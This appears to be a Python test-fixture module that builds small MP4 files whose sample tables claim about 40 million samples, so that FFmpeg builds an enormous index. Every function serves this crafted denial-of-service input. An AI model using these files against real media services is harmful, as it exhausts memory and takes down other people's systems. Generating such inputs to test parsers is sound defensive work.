"""Writes hostile MP4 files of a few kilobytes whose sample tables describe millions of samples.

A table can describe “40 million samples of one size” in twenty bytes. FFmpeg builds an index entry for each of them.
"""

import struct
from pathlib import Path

ENTRIES = 40_000_000
PAYLOAD = bytes(1024)


def box(kind: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I", 8 + len(content)) + kind + content


def full(kind: bytes, *parts: bytes, flags: int = 0, version: int = 0) -> bytes:
    return box(kind, struct.pack(">I", version << 24 | flags), *parts)


def sample_tables(entries: int, kinds: str) -> bytes:
    """Return the sample tables for `entries` samples, with `ctts` too if `kinds` names it."""
    entry = struct.pack(">6xHIHHIIHHIHHI", 1, 0, 0, 0, 0, 0, 1, 16, 0, 0, 0, 16_000 << 16)[:36]
    description = box(b"sowt", entry[:8] + struct.pack(">HHIHHHHI", 0, 0, 0, 1, 16, 0, 0, 16_000 << 16))
    tables = [
        full(b"stsd", struct.pack(">I", 1), description),
        full(b"stts", struct.pack(">III", 1, entries, 2)),
        full(b"stsc", struct.pack(">IIII", 1, 1, entries, 1)),
        full(b"stsz", struct.pack(">II", 2, entries)),
        full(b"stco", struct.pack(">II", 1, 40)),
    ]
    if "ctts" in kinds:
        tables.append(full(b"ctts", struct.pack(">III", 1, entries, 5)))
    return box(b"stbl", *tables)


def mp4(target: Path, entries: int = ENTRIES, *, kinds: str = "", tracks: int = 1) -> Path:
    """Write a file with `entries` samples in each of its audio tracks. Returns `target`."""
    length = min(entries, 2**31)
    movie = full(b"mvhd", struct.pack(">IIII", 0, 0, 16_000, length), bytes(80))
    parts = []
    for number in range(1, tracks + 1):
        header = full(b"tkhd", struct.pack(">IIIII", 0, 0, number, 0, length), bytes(60), flags=7)
        media_header = full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 16_000, length, 0x55C4, 0))
        handler = full(b"hdlr", struct.pack(">I4s12x", 0, b"soun"), b"\0")
        sound_header = full(b"smhd", bytes(4))
        data = box(b"dinf", full(b"dref", struct.pack(">I", 1), full(b"url ", flags=1)))
        media = box(b"minf", sound_header, data, sample_tables(entries, kinds))
        parts.append(box(b"trak", header, box(b"mdia", media_header, handler, media)))
    brand = box(b"ftyp", b"isom", struct.pack(">I", 512), b"isom")
    target.write_bytes(brand + box(b"mdat", PAYLOAD) + box(b"moov", movie, *parts))
    return target
